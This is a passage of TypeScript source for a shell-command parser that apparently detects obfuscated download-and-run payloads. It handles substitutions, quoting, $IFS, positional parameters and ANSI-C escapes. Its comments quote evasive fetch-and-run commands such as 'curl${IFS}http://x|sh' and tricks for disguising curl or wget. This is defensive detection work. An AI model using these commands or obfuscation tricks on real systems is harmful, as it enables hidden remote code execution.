        if (group !== undefined && at === this.out.length - 1 && finished.redirects.length === 0) {
          this.out.pop();
          this.budget.segments++;
        }
      }
      closedGroup = undefined;
      if (finished !== undefined && group === undefined) {
        if (this.depth < MAX_PAYLOAD_DEPTH) {
          expandPayload(finished, this.out, this.budget, this.dropInert, this.variables);
          expandStdinScript(finished, this.out, this.budget, this.dropInert);
        } else if (shellPayload(commandWords(finished.argv)) !== undefined) exhaust(this.budget, "depth");
        recordAssignments(finished, this.variables, this.budget);
        this.cwd = afterCd(finished, this.cwd);
        if (!pipe && this.dropInert) recycle(this.out, finished, this.budget);
      }
      pipeFrom = pipe && group === undefined ? finished : undefined;
      pipeFromGroup = pipe && group !== undefined && group.length > 0 ? group : undefined;
    };
    // Parses a substitution starting at this.pos (just after its opening) and returns its source text.
    const substitution = (open: string, kind: SubstitutionKind, close: ")" | "`"): string => {
      const start = this.pos - open.length;
      const outer = ensureSegment();
      const argIndex = pendingRedirect !== undefined || outer === undefined ? -1 : outer.argv.length;
      const savedCwd = this.cwd;
      if (nesting < MAX_SUBSTITUTION_DEPTH && outer !== undefined) {
        this.parseList(close, { segment: outer, kind, argIndex }, nesting + 1);
      } else {
        exhaust(this.budget, nesting >= MAX_SUBSTITUTION_DEPTH ? "substitutions" : "segments");
        this.skipTo(close);
      }
      this.cwd = savedCwd;
      const written = text.slice(start, this.pos);
      // An empty command substitution (`cu$()rl`, ``w``get``) expands to nothing: the shell joins the halves.
      if (kind === "command" && EMPTY_SUBSTITUTION.test(written)) return "";
      return written;
    };

    while (this.pos < text.length) {
      const c = text[this.pos]!;
      const next = text[this.pos + 1];
      if (terminator === ")" && c === ")" && parens === 0) {
        this.pos++;
        endCommand(false);
        return;
      }
      if (terminator === "`" && c === "`") {
        this.pos++;
        endCommand(false);
        return;
      }
      switch (c) {
        case " ":
        case "\t":
        case "\r":
          endWord();
          this.pos++;
          break;
        case "\n":
          endCommand(false);
          this.pos++;
          break;
        case "#":
          if (wordStarted) {
            word += c;
            this.pos++;
          } else {
            const eol = text.indexOf("\n", this.pos);
            this.pos = eol === -1 ? text.length : eol;
          }
          break;
        case "\\":
          if (next === "\n") this.pos += 2;
          else {
            word += next ?? "\\";
            wordStarted = true;
            plain = false;
            this.pos += 2;
          }
          break;
        case "'": {
          const end = text.indexOf("'", this.pos + 1);
          const stop = end === -1 ? text.length : end;
          word += text.slice(this.pos + 1, stop);
          wordStarted = true;
          plain = false;
          this.pos = stop + 1;
          break;
        }
        case '"':
          this.pos++;
          word += this.doubleQuoted(substitution);
          wordStarted = true;
          plain = false;
          break;
        case "$":
          word += this.dollar(substitution, false);
          wordStarted = true;
          plain = false;
          break;
        case "`":
          this.pos++;
          word += substitution("`", "command", "`");
          wordStarted = true;
          plain = false;
          break;
        case "|":
          if (next === "|") {
            this.pos += 2;
            endCommand(false);
          } else {
            this.pos += next === "&" ? 2 : 1;
            endCommand(true);
          }
          break;
        case "&":
          if (next === "&") {
            this.pos += 2;
            endCommand(false);
          } else if (next === ">") {
            endWord();
            const append = text[this.pos + 2] === ">";
            pendingRedirect = append ? "&>>" : "&>";
            this.pos += append ? 3 : 2;
          } else {
            this.pos++;
            endCommand(false);
          }
          break;
        case ";":
          this.pos++;
          endCommand(false);
          break;
        case "(":
          endWord();
          parens++;
          this.pos++;
          // After `|` the group's first command reads the pipe: `curl x | (sh)`.
          if (current !== undefined) endCommand(false);
          groups.push({ closer: ")", start: this.out.length });
          break;
        case ")":
          this.pos++;
          endCommand(false);
          if (parens > 0) {
            parens--;
            closedGroup = closeGroup(")", this.out.length);
          }
          break;
        case "<":
        case ">":
          if (next === "(" && !wordStarted) {
            this.pos += 2;
            word += substitution(`${c}(`, "process", ")");
            wordStarted = true;
            plain = false;
            break;
          }
          // A word made only of digits right before the operator is its file descriptor.
          if (wordStarted && /^\d+$/.test(word)) {
            word = "";
            wordStarted = false;
          } else endWord();
          pendingRedirect = this.redirectOperator();
          break;
        default:
          word += c;
          wordStarted = true;
          this.pos++;
      }
    }
    endCommand(false);
  }

  private redirectOperator(): string {
    const text = this.text;
    for (const op of ["<<<", "<<-", "<<", "<>", "<&", ">>", ">|", ">&", "<", ">"]) {
      if (text.startsWith(op, this.pos)) {
        this.pos += op.length;
        return op;
      }
    }
    this.pos++;
    return text[this.pos - 1]!;
  }

  /** Reads a double-quoted string from just after its opening quote; substitutions inside still run. */
  private doubleQuoted(substitution: (open: string, kind: SubstitutionKind, close: ")" | "`") => string) {
    const text = this.text;
    let value = "";
    while (this.pos < text.length) {
      const c = text[this.pos]!;
      if (c === '"') {
        this.pos++;
        return value;
      }
      if (c === "\\") {
        const next = text[this.pos + 1];
        if (next !== undefined && '\\"$`\n'.includes(next)) {
          if (next !== "\n") value += next;
          this.pos += 2;
        } else {
          value += c;
          this.pos++;
        }
      } else if (c === "$") {
        value += this.dollar(substitution, true);
      } else if (c === "`") {
        this.pos++;
        value += substitution("`", "command", "`");
      } else {
        value += c;
        this.pos++;
      }
    }
    return value;
  }

  /** Reads a `$…` construct at this.pos and returns the text it contributes to the word. */
  private dollar(
    substitution: (open: string, kind: SubstitutionKind, close: ")" | "`") => string,
    quoted: boolean,
  ): string {
    const text = this.text;
    const next = text[this.pos + 1];
    const special = this.specialParameter(quoted);
    if (special !== undefined) return special;
    // A variable the script set earlier reads as its value; an unknown one stays as written.
    const braced =
      next === "{" ? /^\{([A-Za-z_][A-Za-z0-9_]*)\}/.exec(text.slice(this.pos + 1, this.pos + 260)) : null;
    const name = braced?.[1] ?? VARIABLE_NAME.exec(text.slice(this.pos + 1, this.pos + 258))?.[0];
    const value = name === undefined ? undefined : this.variables.get(name);
    // Expansions draw on the character allowance, so `$a$a$a…` cannot grow a word without bound.
    if (value !== undefined && value.length <= this.budget.chars) {
      this.budget.chars -= value.length;
      this.pos += 1 + (braced !== null ? braced[0].length : name!.length);
      if (!quoted && /[ \t\n]/.test(value)) this.splitWord = true;
      return value;
    }
    if (next === "(" && text[this.pos + 2] === "(") {
      const start = this.pos;
      this.pos += 3;
      this.skipTo(")");
      if (text[this.pos] === ")") this.pos++;
      return text.slice(start, this.pos);
    }
    if (next === "(") {
      this.pos += 2;
      return substitution("$(", "command", ")");
    }
    if (next === "{") {
      const start = this.pos;
      this.pos += 2;
      let braces = 1;
      while (this.pos < text.length && braces > 0) {
        const c = text[this.pos]!;
        if (c === "{") braces++;
        else if (c === "}") braces--;
        else if (c === "\\") this.pos++;
        this.pos++;
      }
      return text.slice(start, this.pos);
    }
    if (next === "'") {
      this.pos += 2;
      return this.ansiC();
    }
    this.pos++;
    return "$";
  }

  /**
   * `$IFS`/`${IFS…}` (a field separator written where a space would be: `curl${IFS}http://x|sh`), and
   * the positional parameters `$@`, `$*`, `$0`…`$9`, `${10}`: the words after the payload, empty when
   * there are none (`cu$@rl` is curl). Undefined for anything else; this.pos moves past what it read.
   */
  private specialParameter(quoted: boolean): string | undefined {
    const ahead = this.text.slice(this.pos + 1, this.pos + 40);
    const ifs = this.variables.has("IFS")
      ? null
      : /^(?:IFS(?![A-Za-z0-9_])|\{IFS(?:[^{}]{0,32})\})/.exec(ahead);
    let value: string;
    let length: number;
    if (ifs !== null) {
      value = " ";
      length = ifs[0].length;
    } else {
      const match = /^(?:[@*]|[0-9]|\{(?:[@*]|[0-9]+)\})/.exec(ahead);
      if (match === null) return undefined;
      length = match[0].length;
      const which = match[0].replace(/[{}]/g, "");
      if (which === "@" || which === "*") value = this.positional.slice(1).join(" ");
      else value = this.positional[Number(which)] ?? "";
      if (value.length > this.budget.chars) {
        exhaust(this.budget, "characters");
        value = "";
      }
      this.budget.chars -= value.length;
    }
    this.pos += 1 + length;
    if (!quoted && /[ \t\n]/.test(value)) this.splitWord = true;
    return value;
  }

  /** `$'…'` with C escapes, so `$'\x63url'` reads as curl. */
  private ansiC(): string {
    const text = this.text;
    let value = "";
    while (this.pos < text.length) {
      const c = text[this.pos]!;
      if (c === "'") {
        this.pos++;
        return value;
      }
      if (c !== "\\") {
        value += c;
        this.pos++;
        continue;
      }
      const e = text[this.pos + 1] ?? "";
      this.pos += 2;
      const simple: Record<string, string> = {
        n: "\n",
        t: "\t",
        r: "\r",
        a: "\x07",
        b: "\b",
        e: "\x1b",
        E: "\x1b",
      };
      if (e in simple) value += simple[e];
      else if (e === "x" || e === "u" || e === "U") {
        const max = e === "x" ? 2 : e === "u" ? 4 : 8;
        const hex = /^[0-9a-fA-F]+/.exec(text.slice(this.pos, this.pos + max))?.[0] ?? "";
        this.pos += hex.length;
        const code = hex.length > 0 ? Number.parseInt(hex, 16) : Number.NaN;
        value += Number.isFinite(code) && code <= 0x10ffff ? String.fromCodePoint(code) : e;
      } else if (e >= "0" && e <= "7") {
        const oct = /^[0-7]{1,3}/.exec(text.slice(this.pos - 1, this.pos + 2))?.[0] ?? e;
        this.pos += oct.length - 1;
        value += String.fromCharCode(Number.parseInt(oct, 8) & 0xff);
      } else value += e;
    }
    return value;
  }

  /** Skips to just after the matching `close`, honouring quotes and nested parentheses. */
  private skipTo(close: ")" | "`"): void {
    const text = this.text;
    let parens = 0;
    while (this.pos < text.length) {
      const c = text[this.pos]!;
      if (c === "\\") this.pos += 2;
      else if (c === "'") {
        const end = text.indexOf("'", this.pos + 1);
        this.pos = end === -1 ? text.length : end + 1;
      } else if (close === ")" && c === "(") {
        parens++;
        this.pos++;
      } else if (c === close && (close === "`" || parens === 0)) {
        this.pos++;
        return;
      } else {
        if (c === ")") parens--;
        this.pos++;
      }
    }
  }
}
